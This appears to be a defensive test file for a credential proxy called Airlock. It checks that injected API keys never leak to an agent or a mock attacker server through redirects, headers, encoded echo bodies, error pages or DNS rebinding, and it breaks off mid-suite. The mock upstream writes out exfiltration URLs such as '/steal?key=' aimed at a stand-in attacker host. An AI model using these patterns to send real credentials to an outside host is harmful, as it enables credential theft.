/**
 * Exfiltration (DESIGN.md invariants 1, 3 and 5): a compromised or prompt-injected agent tries to get
 * the real credential out of Airlock, or to make Airlock carry it somewhere it should not go.
 *
 *  - redirects: an upstream answers 301/302/303/307/308 to another origin (the "attacker" recording
 *    server); Airlock never follows, and a Location (or any other header: WWW-Authenticate, Set-Cookie,
 *    Link, Content-Location, Refresh, trailers, the reason phrase) that carries the credential in any
 *    encoding reaches the agent redacted; a same-origin Location is rewritten to the proxy prefix;
 *  - Host / X-Forwarded-* / Forwarded / absolute-form / CONNECT: the connection goes to the configured
 *    origin with its own Host, whatever the agent says;
 *  - TRACE / TRACK (which reflect the request, injected headers included) are never forwarded;
 *  - echo endpoints reflecting the injected credential as JSON, text, base64, hex, percent- and
 *    JSON-escaped, gzip/deflate/br, chunked with the key split across chunks, SSE deltas;
 *  - error paths: connection refused, header and body timeouts, an upstream 4xx/5xx page printing its own
 *    URL with ?key=..., an unscannable body: the problem, the logs and the audit carry no credential;
 *  - the egress guard: an upstream host name resolving to loopback / private / link-local / metadata is
 *    refused at connect time unless allow_private; metadata IP literals are refused at config time;
 *  - cross-tenant: another agent's or another service's credential handed back by a shared upstream.
 *
 * Every credential is a unique canary. Each case checks the agent's answer (raw bytes and de-chunked
 * body, plus percent- and \u-decoded views), the log lines and the audit record of the request, and that
 * the attacker server (and the "internal" server behind the egress guard) received nothing.
 *
 * DNS seam (egress guard, rebinding): the guard (src/upstream/egress-guard.ts) calls node:dns lookup at
 * connect time and offers no resolver seam in config, and /etc/hosts is the machine's, not the test's.
 * The honest stand-in for an attacker-controlled DNS server is therefore node's own resolver: for names
 * under .airlock.test only, `dns.lookup` is replaced (and `syncBuiltinESMExports()` propagates it to the
 * ESM binding the guard imported), answering whatever the case wants, and counting questions. None of
 * Airlock's modules is mocked; the control services with allow_private: true show the answers are used.
 * What is not tested: a name answering a *public* address first and a private one later over a real
 * connection. A public first answer would make Airlock open a real connection to the internet (the
 * suite must not need or touch it), so the rebinding cases show instead that (a) the resolver is asked
 * again for every new connection (no start-up or cached verdict) and refused on that answer, and (b) a
 * mixed answer (public + private, the multi-record rebinding variant) is refused as a whole.
 */
import dns, { type LookupAddress } from 'node:dns';
import { syncBuiltinESMExports } from 'node:module';
import { STATUS_CODES, type IncomingMessage, type ServerResponse } from 'node:http';
import { tmpdir } from 'node:os';
import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { buildConfig } from '../../src/config/load-config.js';
import { generateAgentToken } from '../../src/identity/agent-token.js';
import type { AuditRecord } from '../../src/observability/audit-record.js';
import { findLeaks, type Surface } from '../helpers/assert-no-leak.js';
import { canary } from '../helpers/canary.js';
import { freePort } from '../helpers/operator.js';
import { rawRequest, type RawResponse } from '../helpers/raw-http.js';
import { startProxy, type ProxyFixture } from '../helpers/start-proxy.js';
import { startUpstream, type RecordedRequest, type Upstream } from '../helpers/start-upstream.js';
import { auditRecordOf, expectProblem, hostileWatch } from './support/hostile-watch.js';

const MARKER = '[REDACTED]';

/**
 * A canary password whose Basic composite base64("api:" + key) has a "/" and a "+" among the characters
 * the key alone determines: what a PHP json_encode ("\/") or a form encoder ("%2F", "%2B") breaks up.
 * Base64 of A-Za-z0-9_- text never holds "+" or "/" (only a third byte of 0x3E/0x3F/0x7E/0x7F gives
 * them), so the password carries "~" and "?" as user-chosen passwords do.
 */
function basicCanaryWithSlashAndPlus(): string {
  for (let attempt = 0; attempt < 100; attempt++) {
    const key = `${canary('ex-basicslash')}~~~???zz`;
    const encoded = Buffer.from(`api:${key}`).toString('base64');
    const core = encoded.slice(Math.ceil((4 * 4) / 3), Math.floor(((4 + key.length) * 4) / 3));
    if (core.includes('/') && core.includes('+')) return key;
  }
  throw new Error('no Basic canary with "/" and "+" in its base64 core');
}

const KEYS = {
  bearer: canary('ex-bearer'),
  basic: canary('ex-basic'),
  query: canary('ex-query'),
  slow: canary('ex-slow'),
  refused: canary('ex-refused'),
  local: canary('ex-local'),
  localok: canary('ex-localok'),
  rebind: canary('ex-rebind'),
  rebindok: canary('ex-rebindok'),
  tenants: canary('ex-tenants'),
  alice: canary('ex-alice'),
  bob: canary('ex-bob'),
  tenantsreq: canary('ex-tenantsreq'),
  aliceReq: canary('ex-alicereq'),
  bobReq: canary('ex-bobreq'),
  allscope: canary('ex-allscope'),
  basicSlash: basicCanaryWithSlashAndPlus(),
} as const;
const ALL_KEYS: readonly string[] = Object.values(KEYS);

type Injected = 'bearer' | 'basic' | 'query';
const INJECTED: readonly Injected[] = ['bearer', 'basic', 'query'];

/** Every built-in key shape off: only the secret's own forms can mask it (the canaries look like sk- keys). */
const SHAPES_OFF = { openai: false, stripe: false, github: false, slack: false, aws: false, google: false, private_key: false };

const ROUTES = [{ method: ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS'], path: '/v1/*', scope: 'api' }];

/** The name the test resolver answers for (and only names under .airlock.test). */
const REBIND_HOST = 'rebind.airlock.test';

type HeaderLines = ReadonlyArray<readonly [string, string]>;

const sleep = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));

/** Every byte as %XX. */
function percentAll(text: string, lower = false): string {
  const hex = Buffer.from(text, 'utf8').toString('hex');
  const out = hex.replace(/../g, (pair) => `%${pair}`);
  return lower ? out : out.toUpperCase();
}

/** Every character as \uXXXX, inside a JSON string. */
function unicodeEscapeAll(text: string, upper = false): string {
  let out = '';
  for (const ch of text) {
    const hex = (ch.codePointAt(0) as number).toString(16).padStart(4, '0');
    out += `\\u${upper ? hex.toUpperCase() : hex}`;
  }
  return out;
}

/** The credential the upstream received, as it received it: the bearer value, the Basic password or ?key=. */
function receivedKey(rec: RecordedRequest): string | null {
  const auth = rec.header('authorization')[0];
  if (auth !== undefined && auth.startsWith('Bearer ')) return auth.slice('Bearer '.length);
  if (auth !== undefined && auth.startsWith('Basic ')) {
    const decoded = Buffer.from(auth.slice('Basic '.length), 'base64').toString('utf8');
    return decoded.slice(decoded.indexOf(':') + 1);
  }
  return new URL(rec.target, 'http://upstream.invalid').searchParams.get('key');
}

/**
 * The documented forms (README "Leak-proof responses") that encodingsOf() does not list itself: every
 * byte percent-encoded (both hex cases) and every character as \uXXXX (both hex cases).
 */
function extraForms(secret: string): Array<{ form: string; value: string }> {
  return [
    { form: 'percent-all', value: percentAll(secret) },
    { form: 'percent-all-lower', value: percentAll(secret, true) },
    { form: 'unicode-all', value: unicodeEscapeAll(secret) },
    { form: 'unicode-all-upper', value: unicodeEscapeAll(secret, true) },
  ];
}

/** Every documented form of every canary, looked for in every surface. */
function leaksIn(surfaces: readonly Surface[]): string[] {
  const leaks = findLeaks(ALL_KEYS, surfaces);
  for (const secret of ALL_KEYS) {
    for (const { form, value } of extraForms(secret)) {
      for (const surface of surfaces) if (surface.text.includes(value)) leaks.push(`${form} form of a canary found in ${surface.name}`);
    }
  }
  return leaks;
}

interface Answer extends RawResponse {
  readonly requestId: string;
  readonly contentType: string | undefined;
  /** The status line exactly as sent (reason phrase included). */
  readonly statusLine: string;
  header(name: string): string[];
}

/**
 * The "origin": the configured upstream of most services, playing every kind of leaky API. It learns
 * the credential only from what Airlock injected into the request it received.
 */
interface OriginState {
  url: string;
  attackerUrl: string;
  attackerPort: number;
  /** The last Authorization seen on /v1/whoami (a session mix-up between tenants). */
  lastWhoami: string | null;
}

function answer(res: ServerResponse, status: number, contentType: string, body: Buffer | string, extra: Record<string, string | string[]> = {}): void {
  const bytes = typeof body === 'string' ? Buffer.from(body, 'utf8') : body;
  res.writeHead(status, { 'content-type': contentType, 'content-length': String(bytes.length), ...extra });
  res.end(bytes);
}

/** What an echo endpoint reflects: the request as received plus the credential it carried, decoded. */
function echoMaterial(state: OriginState, rec: RecordedRequest): string {
  const headers: Record<string, string> = {};
  for (let i = 0; i < rec.rawHeaders.length; i += 2) headers[rec.rawHeaders[i] as string] = rec.rawHeaders[i + 1] as string;
  return JSON.stringify({ method: rec.method, url: `${state.url}${rec.target}`, headers, body: rec.body.toString('utf8'), credential: receivedKey(rec) });
}

/**
 * What the transforming echo formats (base64, hex, percent, form) encode: the request line with its URL
 * and the credential as the upstream understood it. Not the raw Authorization header: its Basic value
 * is already base64, and base64-of-base64 is a composition no redactor claims to know (the composed
 * forms that are realistic are tested on their own below).
 */
function echoCore(state: OriginState, rec: RecordedRequest): string {
  return `${rec.method} ${state.url}${rec.target}\ncredential=${receivedKey(rec) ?? ''}\n`;
}

type EchoFormat =
  | 'json'
  | 'text'
  | 'html'
  | 'form'
  | 'base64'
  | 'base64url'
  | 'hex'
  | 'HEX'
  | 'percent-upper'
  | 'percent-lower'
  | 'json-unicode-lower'
  | 'json-unicode-upper'
  | 'gzip'
  | 'deflate'
  | 'br'
  | 'chunked-split'
  | 'chunked-bytewise'
  | 'sse-deltas'
  | 'sse-split-write';

const ECHO_FORMATS: readonly EchoFormat[] = [
  'json',
  'text',
  'html',
  'form',
  'base64',
  'base64url',
  'hex',
  'HEX',
  'percent-upper',
  'percent-lower',
  'json-unicode-lower',
  'json-unicode-upper',
  'gzip',
  'deflate',
  'br',
  'chunked-split',
  'chunked-bytewise',
  'sse-deltas',
  'sse-split-write',
];

async function echo(state: OriginState, rec: RecordedRequest, res: ServerResponse, format: EchoFormat): Promise<void> {
  const material = echoMaterial(state, rec);
  const core = echoCore(state, rec);
  const key = receivedKey(rec) ?? '';
  switch (format) {
    case 'json':
      return answer(res, 200, 'application/json', material);
    case 'text':
      return answer(res, 200, 'text/plain', `You sent:\n${material}\nYour key: ${key}\n`);
    case 'html':
      return answer(res, 200, 'text/html', `<html><body><pre>${material}</pre><input type="hidden" name="k" value="${key}"></body></html>`);
    case 'form':
      return answer(res, 200, 'application/x-www-form-urlencoded', new URLSearchParams({ echo: core, api_key: key }).toString());
    case 'base64':
      return answer(res, 200, 'application/json', JSON.stringify({ request_b64: Buffer.from(core).toString('base64'), key_b64: Buffer.from(key).toString('base64') }));
    case 'base64url':
      return answer(res, 200, 'application/json', JSON.stringify({ request_b64: Buffer.from(core).toString('base64url'), key_b64: Buffer.from(`x${key}`).toString('base64url') }));
    case 'hex':
      return answer(res, 200, 'text/plain', Buffer.from(core).toString('hex'));
    case 'HEX':
      return answer(res, 200, 'text/plain', Buffer.from(core).toString('hex').toUpperCase());
    case 'percent-upper':
      return answer(res, 200, 'text/plain', `echo=${percentAll(core)}`);
    case 'percent-lower':
      return answer(res, 200, 'text/plain', `echo=${percentAll(core, true)}`);
    case 'json-unicode-lower':
      return answer(res, 200, 'application/json', `{"echo":"${unicodeEscapeAll(key)}","escaped_slash":"${`a/${key}/b`.replace(/\//g, '\\/')}"}`);
    case 'json-unicode-upper':
      return answer(res, 200, 'application/json', `{"echo":"${unicodeEscapeAll(key, true)}"}`);
    case 'gzip':
      return answer(res, 200, 'application/json', gzipSync(material), { 'content-encoding': 'gzip' });
    case 'deflate':
      return answer(res, 200, 'application/json', deflateSync(material), { 'content-encoding': 'deflate' });
    case 'br':
      return answer(res, 200, 'application/json', brotliCompressSync(material), { 'content-encoding': 'br' });
    case 'chunked-split': {
      // No Content-Length: chunked. The key is cut into 5-byte pieces, each its own write (and chunk).
      res.writeHead(200, { 'content-type': 'text/plain' });
      const at = material.indexOf(key);
      res.write(material.slice(0, at));
      await sleep(3);
      for (let i = 0; i < key.length; i += 5) {
        res.write(key.slice(i, i + 5));
        await sleep(3);
      }
      res.end(material.slice(at + key.length));
      return;
    }
    case 'chunked-bytewise': {
      res.writeHead(200, { 'content-type': 'application/octet-stream' });
      for (const ch of `key=${key};`) {
        res.write(ch);
        await sleep(1);
      }
      res.end();
      return;
    }
    case 'sse-deltas': {
      // An OpenAI-style stream whose model repeats the key token by token, one event per token.
      res.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-cache' });
      const event = (content: string): string => `data: ${JSON.stringify({ id: 'chatcmpl-x', object: 'chat.completion.chunk', choices: [{ index: 0, delta: { content } }] })}\n\n`;
      res.write(event('Sure, the key is '));
      for (let i = 0; i < key.length; i += 4) {
        res.write(event(key.slice(i, i + 4)));
        await sleep(2);
      }
      res.write(event('. Anything else?'));
      res.end('data: [DONE]\n\n');
      return;
    }
    case 'sse-split-write': {
      // One event, its data line (the whole key) cut across two writes in the middle of the key.
      res.writeHead(200, { 'content-type': 'text/event-stream' });
      const line = `event: debug\ndata: ${JSON.stringify({ auth: key })}\n\n`;
      const cut = line.indexOf(key) + Math.floor(key.length / 2);
      res.write(line.slice(0, cut));
      await sleep(10);
      res.end(line.slice(cut));
      return;
    }
  }
}

type LocationVariant =
  | 'attacker-query'
  | 'attacker-userinfo'
  | 'attacker-fragment'
  | 'attacker-path-hex'
  | 'attacker-path-base64'
  | 'attacker-percent-all'
  | 'scheme-relative'
  | 'same-origin-absolute'
  | 'same-origin-relative'
  | 'second-location-line';

const LOCATION_VARIANTS: readonly LocationVariant[] = [
  'attacker-query',
  'attacker-userinfo',
  'attacker-fragment',
  'attacker-path-hex',
  'attacker-path-base64',
  'attacker-percent-all',
  'scheme-relative',
  'same-origin-absolute',
  'same-origin-relative',
  'second-location-line',
];

function leakyLocation(state: OriginState, variant: LocationVariant, key: string): string[] {
  switch (variant) {
    case 'attacker-query':
      return [`${state.attackerUrl}/steal?key=${encodeURIComponent(key)}&x=1`];
    case 'attacker-userinfo':
      return [`http://api:${key}@127.0.0.1:${state.attackerPort}/`];
    case 'attacker-fragment':
      return [`${state.attackerUrl}/callback#access_token=${key}&token_type=bearer`];
    case 'attacker-path-hex':
      return [`${state.attackerUrl}/h/${Buffer.from(key).toString('hex')}`];
    case 'attacker-path-base64':
      return [`${state.attackerUrl}/b/${Buffer.from(key).toString('base64url')}`];
    case 'attacker-percent-all':
      return [`${state.attackerUrl}/p?k=${percentAll(key)}`];
    case 'scheme-relative':
      return [`//127.0.0.1:${state.attackerPort}/steal?key=${key}`];
    case 'same-origin-absolute':
      return [`${state.url}/v1/next?key=${key}&page=2`];
    case 'same-origin-relative':
      return [`/v1/next?token=${key}`];
    case 'second-location-line':
      return [`${state.attackerUrl}/clean`, `${state.attackerUrl}/steal?key=${key}`];
  }
}

type HeaderVariant = 'www-authenticate' | 'set-cookie' | 'link' | 'custom' | 'content-location' | 'refresh' | 'trailer' | 'reason-phrase';
const HEADER_VARIANTS: readonly HeaderVariant[] = ['www-authenticate', 'set-cookie', 'link', 'custom', 'content-location', 'refresh', 'trailer', 'reason-phrase'];

function leakyHeaders(state: OriginState, rec: RecordedRequest, res: ServerResponse, variant: HeaderVariant): void {
  const key = receivedKey(rec) ?? '';
  const body = '{"ok":false}';
  const plain = { 'content-type': 'application/json', 'content-length': String(body.length) };
  switch (variant) {
    case 'www-authenticate':
      res.writeHead(401, { ...plain, 'www-authenticate': `Bearer realm="api", error="invalid_token", error_description="token ${key} expired"` });
      return void res.end(body);
    case 'set-cookie':
      res.writeHead(200, { ...plain, 'set-cookie': [`session=${key}; Path=/; HttpOnly`, `b64=${Buffer.from(key).toString('base64')}; Secure`, 'plain=1'] });
      return void res.end(body);
    case 'link':
      res.writeHead(200, { ...plain, link: `<${state.attackerUrl}/next?key=${key}>; rel="next", <${state.url}/v1/prev?key=${key}>; rel="prev"` });
      return void res.end(body);
    case 'custom':
      res.writeHead(200, { ...plain, 'x-debug-authorization': rec.header('authorization')[0] ?? '', 'x-debug-url': `${state.url}${rec.target}`, 'x-debug-key-hex': Buffer.from(key).toString('hex') });
      return void res.end(body);
    case 'content-location':
      res.writeHead(200, { ...plain, 'content-location': `${state.url}/v1/objects/1?key=${key}` });
      return void res.end(body);
    case 'refresh':
      res.writeHead(200, { ...plain, refresh: `0; url=${state.attackerUrl}/steal?key=${key}` });
      return void res.end(body);
    case 'trailer':
      res.writeHead(200, { 'content-type': 'text/plain', trailer: 'x-echo-key, x-echo-auth' });
      res.write('body first;');
      res.addTrailers({ 'x-echo-key': key, 'x-echo-auth': rec.header('authorization')[0] ?? `key=${key}` });
      return void res.end();
    case 'reason-phrase':
      res.writeHead(403, `Forbidden for key ${key}`, plain);
      return void res.end(body);
  }
}

/** An upstream error page that prints the request it failed on, URL (with ?key=) and credential included. */
function failurePage(state: OriginState, rec: RecordedRequest, res: ServerResponse, status: number): void {
  const key = receivedKey(rec) ?? '';
  const fullUrl = `${state.url}${rec.target}`;
  const auth = rec.header('authorization')[0] ?? '(none)';
  switch (status) {
    case 400:
      return answer(res, 400, 'application/json', JSON.stringify({ error: { message: `Incorrect API key provided: ${key}. Request: GET ${fullUrl}`, type: 'invalid_request_error', code: 'invalid_api_key' } }));
    case 401:
      return answer(res, 401, 'text/plain', `Unauthorized: ${auth} is not valid for ${fullUrl}`, { 'www-authenticate': `Basic realm="${key}"` });
    case 403:
      return answer(res, 403, 'text/html', `<h1>Forbidden</h1><pre>GET ${fullUrl}\nAuthorization: ${auth}</pre>`);
    case 404:
      return answer(res, 404, 'text/plain', `Cannot GET ${fullUrl}`);
    case 500:
      return answer(res, 500, 'text/plain', `Error: request to ${fullUrl} failed\n    at handler (/srv/app.js:10:5)\n    credential=${key}`);
    case 502:
      return answer(res, 502, 'application/json', JSON.stringify({ upstream: encodeURIComponent(fullUrl), escaped: JSON.stringify(fullUrl) }));
    case 503:
      res.writeHead(503, `Unavailable ${key}`, { 'content-type': 'text/plain', 'retry-after': '1', 'x-failed-url': fullUrl });
      return void res.end(`upstream ${fullUrl} down`);
    default:
      return answer(res, status, 'text/plain', fullUrl);
  }
}

function originHandler(state: OriginState): (req: IncomingMessage, res: ServerResponse, rec: RecordedRequest) => Promise<void> {
  const pending: ServerResponse[] = [];
  return async function leakyApi(_req, res, rec) {
    const url = new URL(rec.target, 'http://upstream.invalid');
    const [, version, kind, arg] = url.pathname.split('/');
    if (version !== 'v1') return answer(res, 404, 'text/plain', 'no');
    switch (kind) {
      case 'echo':
        return echo(state, rec, res, arg as EchoFormat);
      case 'redirect': {
        const status = Number(arg);
        const body = `<a href="${state.attackerUrl}/collect">moved</a>`;
        return answer(res, status, 'text/html', body, { location: `${state.attackerUrl}/collect?from=airlock` });
      }
      case 'loc': {
        const locations = leakyLocation(state, arg as LocationVariant, receivedKey(rec) ?? '');
        const body = 'moved';
        res.writeHead(302, [
          ['content-type', 'text/plain'],
          ['content-length', String(body.length)],
          ...locations.map((l): [string, string] => ['location', l]),
        ].flat());
        return void res.end(body);
      }
      case 'hdr':
        return leakyHeaders(state, rec, res, arg as HeaderVariant);
      case 'fail':
        return failurePage(state, rec, res, Number(arg));
      case 'echo-php': {
        // PHP's json_encode escapes "/" as "\/" by default.
        const headers: Record<string, string> = {};
        for (let i = 0; i < rec.rawHeaders.length; i += 2) headers[rec.rawHeaders[i] as string] = rec.rawHeaders[i + 1] as string;
        return answer(res, 200, 'application/json', JSON.stringify({ headers }).replace(/\//g, '\\/'));
      }
      case 'echo-form':
        return answer(res, 200, 'application/x-www-form-urlencoded', new URLSearchParams({ authorization: rec.header('authorization')[0] ?? '' }).toString());
      case 'zstd':
        return answer(res, 200, 'application/json', Buffer.concat([Buffer.from([0x28, 0xb5, 0x2f, 0xfd]), Buffer.from(echoMaterial(state, rec))]), { 'content-encoding': 'zstd' });
      case 'hang':
        // Never answers: the service's timeouts.headers ends it.
        pending.push(res);
        return;
      case 'stall': {
        // Headers and the first 12 bytes of the key, then silence: timeouts.body cuts it mid-key.
        const key = receivedKey(rec) ?? '';
        res.writeHead(200, { 'content-type': 'text/plain' });
        res.write(`your key: ${key.slice(0, 12)}`);
        pending.push(res);
        return;
      }
      case 'reset': {
        // The first 14 bytes of the key, then the socket is destroyed (no clean end).
        const key = receivedKey(rec) ?? '';
        res.writeHead(200, { 'content-type': 'text/plain' });
        res.write(`leaking ${key.slice(0, 14)}`);
        await sleep(20);
        res.destroy();
        return;
      }
      case 'whoami': {
        // Session mix-up: answers with the Authorization of the *previous* caller.
        const previous = state.lastWhoami;
        state.lastWhoami = rec.header('authorization')[0] ?? null;
        return answer(res, 200, 'application/json', JSON.stringify({ you: previous }));
      }
      default:
        return answer(res, 200, 'application/json', JSON.stringify({ ok: true, path: url.pathname }));
    }
  };
}

/** The test's stand-in for an attacker-controlled DNS server: answers for *.airlock.test only. */
interface TestResolver {
  answers: LookupAddress[];
  questions: number;
  install(): void;
  restore(): void;
}

function testResolver(): TestResolver {
  const original = dns.lookup;
  const resolver: TestResolver = {
    answers: [],
    questions: 0,
    install() {
      const replacement = function airlockTestLookup(hostname: string, ...rest: unknown[]): void {
        const callback = rest[rest.length - 1] as (err: NodeJS.ErrnoException | null, address: string | LookupAddress[], family?: number) => void;
        if (!hostname.endsWith('.airlock.test')) {
          (original as unknown as (...args: unknown[]) => void)(hostname, ...rest);
          return;
        }
        resolver.questions++;
        const options = rest.length > 1 ? rest[0] : undefined;
        const all = typeof options === 'object' && options !== null && (options as { all?: boolean }).all === true;
        const answers = [...resolver.answers];
        process.nextTick(() => {
          if (answers.length === 0) return callback(Object.assign(new Error(`getaddrinfo ENOTFOUND ${hostname}`), { code: 'ENOTFOUND' }), []);
          if (all) return callback(null, answers);
          const first = answers[0] as LookupAddress;
          return callback(null, first.address, first.family);
        });
      };
      (dns as unknown as { lookup: unknown }).lookup = replacement;
      syncBuiltinESMExports();
    },
    restore() {
      (dns as unknown as { lookup: unknown }).lookup = original;
      syncBuiltinESMExports();
    },
  };
  return resolver;
}

describe('exfiltration: the credential never reaches the agent, and nothing goes where it should not', () => {
  const watch = hostileWatch();
  const tester = generateAgentToken();
  const alice = generateAgentToken();
  const bob = generateAgentToken();
  const resolver = testResolver();
  const state: OriginState = { url: '', attackerUrl: '', attackerPort: 0, lastWhoami: null };
  /** Everything any agent received, for the final sweep. */
  const agentSaw: Surface[] = [];
  let origin: Upstream;
  let attacker: Upstream;
  let internal: Upstream;
  let proxy: ProxyFixture;
  /** Requests the internal server is expected to have received (the allow_private control cases). */
  let internalExpected = 0;

  beforeAll(async () => {
    watch.start();
    resolver.install();
    attacker = await startUpstream();
    internal = await startUpstream();
    origin = await startUpstream(originHandler(state));
    state.url = origin.url;
    state.attackerUrl = attacker.url;
    state.attackerPort = attacker.port;
    const closedPort = await freePort();
    const patternsOff = { builtin_patterns: SHAPES_OFF };
    const service = (upstream: string, secret: string, inject: unknown, extra: Record<string, unknown> = {}): Record<string, unknown> => ({
      upstream,
      credential: { secret: `env:${secret}`, inject },
      routes: ROUTES,
      ...extra,
    });
    proxy = await startProxy(
      {
        services: {
          bearer: service(origin.url, 'EX_BEARER', 'bearer', { redact: patternsOff }),
          basic: service(origin.url, 'EX_BASIC', { basic: { username: 'api', password: '${secret}' } }, { redact: patternsOff }),
          query: service(origin.url, 'EX_QUERY', { query: 'key' }, { redact: patternsOff }),
          basicslash: service(origin.url, 'EX_BASICSLASH', { basic: { username: 'api', password: '${secret}' } }, { redact: patternsOff }),
          slow: service(origin.url, 'EX_SLOW', { query: 'key' }, { redact: patternsOff, timeouts: { connect: 2, headers: 0.5, body: 0.5 } }),
          refused: service(`http://127.0.0.1:${closedPort}`, 'EX_REFUSED', { query: 'key' }, { redact: patternsOff }),
          local: service(`http://localhost:${internal.port}`, 'EX_LOCAL', { query: 'key' }, { redact: patternsOff }),
          localok: service(`http://localhost:${internal.port}`, 'EX_LOCALOK', 'bearer', { redact: patternsOff, allow_private: true }),
          rebind: service(`http://${REBIND_HOST}:${internal.port}`, 'EX_REBIND', { query: 'key' }, { redact: patternsOff, timeouts: { connect: 2, headers: 2, body: 2 } }),
          rebindok: service(`http://${REBIND_HOST}:${internal.port}`, 'EX_REBINDOK', 'bearer', { redact: patternsOff, allow_private: true }),
          tenants: service(origin.url, 'EX_TENANTS', 'bearer', { redact: patternsOff }),
          tenantsreq: service(origin.url, 'EX_TENANTSREQ', 'bearer', { redact: { scope: 'request' } }),
          allscope: service(origin.url, 'EX_ALLSCOPE', 'bearer', { redact: { scope: 'all', builtin_patterns: SHAPES_OFF } }),
        },
        agents: {
          tester: {
            tokens: [tester.hash],
            credentials: ['bearer', 'basic', 'basicslash', 'query', 'slow', 'refused', 'local', 'localok', 'rebind', 'rebindok', 'tenants', 'tenantsreq', 'allscope'].map((name) => ({ service: name, max_scope: ['*'] })),
          },
          alice: {
            tokens: [alice.hash],
            credentials: [
              { service: 'tenants', max_scope: ['*'], credential: { secret: 'env:EX_ALICE', inject: 'bearer' } },
              { service: 'tenantsreq', max_scope: ['*'], credential: { secret: 'env:EX_ALICE_REQ', inject: 'bearer' } },
            ],
          },
          bob: {
            tokens: [bob.hash],
            credentials: [
              { service: 'tenants', max_scope: ['*'], credential: { secret: 'env:EX_BOB', inject: 'bearer' } },
              { service: 'tenantsreq', max_scope: ['*'], credential: { secret: 'env:EX_BOB_REQ', inject: 'bearer' } },
            ],
          },
        },
      },
      {
        env: {
          EX_BEARER: KEYS.bearer,
          EX_BASIC: KEYS.basic,
          EX_QUERY: KEYS.query,
          EX_BASICSLASH: KEYS.basicSlash,
          EX_SLOW: KEYS.slow,
          EX_REFUSED: KEYS.refused,
          EX_LOCAL: KEYS.local,
          EX_LOCALOK: KEYS.localok,
          EX_REBIND: KEYS.rebind,
          EX_REBINDOK: KEYS.rebindok,
          EX_TENANTS: KEYS.tenants,
          EX_ALICE: KEYS.alice,
          EX_BOB: KEYS.bob,
          EX_TENANTSREQ: KEYS.tenantsreq,
          EX_ALICE_REQ: KEYS.aliceReq,
          EX_BOB_REQ: KEYS.bobReq,
          EX_ALLSCOPE: KEYS.allscope,
        },
      },
    );
  });

  afterAll(async () => {
    resolver.restore();
    await proxy?.close();
    await Promise.all([origin?.close(), attacker?.close(), internal?.close()]);
  });

  afterEach(() => {
    // Nothing, ever, reaches the attacker's server; the internal one only in the allow_private controls.
    expect(attacker.requests.map((r) => `${r.method} ${r.target}`)).toEqual([]);
    expect(internal.requests.length).toBe(internalExpected);
  });

  interface CallOptions {
    readonly method?: string;
    readonly headers?: HeaderLines;
    readonly body?: string;
    /** The agent token to send; null for none. Default: tester's. */
    readonly token?: string | null;
    /** Host header; default 127.0.0.1 (the proxy). */
    readonly host?: string;
    /** The whole request line, when it must not be "METHOD target HTTP/1.1" built from the others. */
    readonly requestLine?: string;
    readonly timeoutMs?: number;
  }

  /** One raw request on its own connection; every answer is kept for the leak sweeps. */
  async function call(target: string, options: CallOptions = {}): Promise<Answer> {
    const method = options.method ?? 'GET';
    const lines = [options.requestLine ?? `${method} ${target} HTTP/1.1`, `Host: ${options.host ?? '127.0.0.1'}`, 'Connection: close'];
    const token = options.token === undefined ? tester.token : options.token;
    if (token !== null) lines.push(`Authorization: Bearer ${token}`);
    for (const [name, value] of options.headers ?? []) lines.push(`${name}: ${value}`);
    if (options.body !== undefined) lines.push(`Content-Length: ${Buffer.byteLength(options.body)}`);
    const response = await rawRequest(proxy.url, `${lines.join('\r\n')}\r\n\r\n${options.body ?? ''}`, options.timeoutMs ?? 10_000);
    const statusLine = response.raw.slice(0, response.raw.indexOf('\r\n'));
    agentSaw.push({ name: `answer to ${method} ${target}`, text: `${response.raw}\n${response.body}` });
    const requestId = response.headers['x-airlock-request-id']?.[0] ?? '';
    return {
      ...response,
      statusLine,
      requestId,
      contentType: response.headers['content-type']?.[0],
      header: (name: string) => response.headers[name.toLowerCase()] ?? [],
    };
  }

  /**
   * The request's audit record; and no form of any canary in the answer (raw and decoded views), in
   * the request's audit record or in any log line written since `logsFrom`.
   */
  async function expectNoLeak(got: Answer, logsFrom: number): Promise<AuditRecord> {
    expect(got.requestId, 'every answer carries x-airlock-request-id').toMatch(/\S/);
    const record = await auditRecordOf(proxy, got.requestId);
    const auditLine = proxy.auditText().split('\n').find((line) => line.includes(got.requestId)) ?? '';
    // The log line follows the audit write; wait (bounded) for it.
    const deadline = Date.now() + 5000;
    while (!proxy.logLines.slice(logsFrom).some((line) => line.includes(got.requestId)) && Date.now() < deadline) await sleep(5);
    const logs = proxy.logLines.slice(logsFrom).join('\n');
    expect(logs, 'a log line for the request').toContain(got.requestId);
    expect(leaksIn([{ name: 'answer', text: `${got.raw}\n${got.body}` }, { name: 'log lines', text: logs }, { name: 'audit record', text: auditLine }])).toEqual([]);
    return record;
  }

  /** The origin's requests from index `from` on. */
  function originSince(from: number): RecordedRequest[] {
    return origin.requests.slice(from);
  }

  function expectInjected(rec: RecordedRequest, service: Injected): void {
    expect(receivedKey(rec)).toBe(KEYS[service]);
    expect(rec.header('host')).toEqual([`127.0.0.1:${origin.port}`]);
  }

  describe('redirects to another origin are handed to the agent, never followed', () => {
    const statuses = [301, 302, 303, 307, 308] as const;
    const cases = INJECTED.flatMap((service) => statuses.map((status) => ({ service, status, method: status >= 307 ? 'POST' : 'GET' })));
    it.each(cases)('$service credential, upstream $status to the attacker ($method)', async ({ service, status, method }) => {
      const before = origin.requests.length;
      const logsFrom = proxy.logLines.length;
      const body = method === 'POST' ? '{"prompt":"hello"}' : undefined;
      const got = await call(`/${service}/v1/redirect/${status}`, { method, ...(body === undefined ? {} : { body, headers: [['Content-Type', 'application/json']] }) });
      expect(got.status).toBe(status);
      // The Location to another origin is passed on untouched (it carries no credential).
      expect(got.header('location')).toEqual([`${attacker.url}/collect?from=airlock`]);
      const seen = originSince(before);
      expect(seen).toHaveLength(1);
      expectInjected(seen[0] as RecordedRequest, service);
      // Give a (wrongly) following proxy time to reach the attacker before afterEach looks.
      await sleep(20);
      const record = await expectNoLeak(got, logsFrom);
      expect(record).toMatchObject({ service, decision: 'allow', status, upstream_status: status, code: null });
    });
  });

  describe('a Location carrying the credential reaches the agent redacted; same-origin is rewritten to the prefix', () => {
    const cases = INJECTED.flatMap((service) => LOCATION_VARIANTS.map((variant) => ({ service, variant })));
